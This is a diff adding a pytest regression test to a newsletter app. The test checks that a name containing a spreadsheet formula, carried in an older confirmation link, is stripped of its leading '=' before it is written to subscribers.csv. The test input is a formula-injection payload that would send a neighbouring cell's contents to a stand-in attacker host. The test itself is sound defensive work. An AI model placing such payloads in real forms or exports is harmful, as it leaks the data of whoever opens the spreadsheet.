@@ -744,3 +744,14 @@ def test_a_name_from_the_form_is_no_spreadsheet_formula(pub: Config, typed: str)
     with (pub.subscribers.path / "subscribers.csv").open(newline="", encoding="utf-8") as f:
         [row] = [r for r in csv.DictReader(f) if r["email"] == "eve@example.org"]
     assert row["name"] and row["name"][0] not in "=+-@ \t"
+
+
+def test_a_link_made_before_the_name_rules_is_cleaned_at_confirmation(pub: Config) -> None:
+    # confirmation links live for days: one made by an older version carries the name as
+    # typed, and confirming wrote it into subscribers.csv as it was
+    client = Client(make_app(pub, secret=SECRET, clock=lambda: T0))
+    old = tokens.ReaderTokens(SECRET, lambda: T0).confirm(
+        "eve@example.org", '=HYPERLINK("https://evil.example/?"&A2)\x07', ["weekly"]
+    )
+    assert client.post("/confirm", data={"t": old}).status_code == 200
+    assert rows(pub)["eve@example.org"]["name"] == 'HYPERLINK("https://evil.example/?"&A2)'
